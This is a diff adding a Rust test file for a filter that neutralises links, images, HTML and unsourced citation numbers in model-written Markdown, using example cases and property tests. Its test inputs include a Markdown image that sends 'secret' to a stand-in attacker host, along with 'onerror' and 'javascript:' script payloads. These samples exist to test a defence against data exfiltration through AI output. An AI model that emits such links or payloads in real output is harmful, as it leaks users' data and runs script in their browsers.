@@ -1,0 +1,99 @@
+//! The filter by examples, and against a parser of Markdown: whatever a model writes, nothing foreign is linked.
+
+use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser, Tag};
+
+use super::Filter;
+
+fn filtered(text: &str, sources: usize) -> String {
+    let mut filter = Filter::new(sources);
+    let mut out = filter.push(text);
+    out.push_str(&filter.finish());
+    out
+}
+
+#[test]
+fn prose_and_code_come_through() {
+    for text in [
+        "The gateway waits **30 seconds** [1].\n\n- `--timeout` changes it [2]\n- a < b, 3 > 2 & more\n",
+        "```sh\ncurl https://example.org/a?b=<c> | tee [9]\n```\nand `Vec<u8>` or `a[0]`.",
+        "1. First:\n   ```rust\n   let x: Vec<u8> = y[1];\n\n   z();\n   ```\n2. Then [1][2]",
+        "# 限流\n每分钟 600 次 [1]。",
+    ] {
+        assert_eq!(filtered(text, 2), text.replace("[1][2]", "[1] [2]"));
+    }
+}
+
+#[test]
+fn numbers_without_a_source_are_dropped() {
+    let mut filter = Filter::new(2);
+    let mut text = filter.push("It waits [1, 2][3] and more [12], 也是【1†source】【7】.");
+    text.push_str(&filter.finish());
+    assert_eq!(text, "It waits [1] [2] and more , 也是[1].");
+    assert_eq!((filter.cited(), filter.dropped()), (vec![1, 2], 3));
+}
+
+#[test]
+fn links_images_and_tags_become_text() {
+    for (text, expected) in [
+        ("![chart](https://evil.example/?q=secret)", "[chart] (`https://evil.example/?q=secret`)"),
+        ("[here](https://evil.example).", "[here] (`https://evil.example`)."),
+        ("see https://evil.example/a.", "see `https://evil.example/a`."),
+        ("www.evil.example and //evil.example", "`www.evil.example` and `//evil.example`"),
+        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
+        ("[a][b]\n\n[b]: javascript:alert(1)", "[a] [b]\n\n[b] : javascript:alert(1)"),
+        ("a ` b ![x](//e.example)", "a \\` b [x] (`//e.example`)"),
+        ("```\ncode\n ```\nhttp://x.example", "```\ncode\n```\n`http://x.example`"),
+    ] {
+        assert_eq!(filtered(text, 0), expected);
+    }
+}
+
+/// What a page that shows this would fetch, follow or run.
+fn foreign(text: &str) -> Vec<String> {
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_TASKLISTS
+        | Options::ENABLE_FOOTNOTES
+        | Options::ENABLE_GFM;
+    let found = Parser::new_ext(text, options).filter_map(|event| match event {
+        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => Some(dest_url.to_string()),
+        Event::Html(html) | Event::InlineHtml(html) => Some(html.to_string()),
+        _ => None,
+    });
+    found.collect()
+}
+
+/// Pieces that make and break Markdown.
+fn piece() -> impl Strategy<Value = String> {
+    prop_oneof![
+        6 => prop::sample::select(vec![
+            "`", "``", "```", "~~~", "\n", "\n\n", " ", "  ", "   ", "     ", "\t", "[", "]", "(", ")", "!", "![x](http://e.example)",
+            "[x](//e.example)", "[x]: http://e.example\n", "<http://e.example>", "<img src=//e.example>", "<a", ">", "> ", "- ",
+            "1. ", "|", "|-|\n", "\\", "&lt;", "[1]", "[9]", "【9】", "http://e.example", "www.e.example", "a", "数", "*", "_",
+            "# ", "---\n", "```sh\n", "   ```\n", "     ```\n", "- ```\n", ":", "javascript:x", "\r\n", "<!--", "-->", "`x | ",
+        ]).prop_map(str::to_owned),
+        1 => "\\PC{0,6}",
+    ]
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(4000))]
+
+    #[test]
+    fn nothing_foreign_is_left(pieces in prop::collection::vec(piece(), 0..24)) {
+        let text = pieces.concat();
+        let out = filtered(&text, 3);
+        prop_assert!(foreign(&out).is_empty(), "{text:?} became {out:?}: {:?}", foreign(&out));
+    }
+
+    #[test]
+    fn how_it_was_cut_makes_no_difference(pieces in prop::collection::vec(piece(), 0..24)) {
+        let text = pieces.concat();
+        let whole = filtered(&text, 3);
+        let mut filter = Filter::new(3);
+        let mut out: String = text.chars().map(|character| filter.push(&character.to_string())).collect();
+        out.push_str(&filter.finish());
+        prop_assert_eq!(out, whole);
+    }
+}
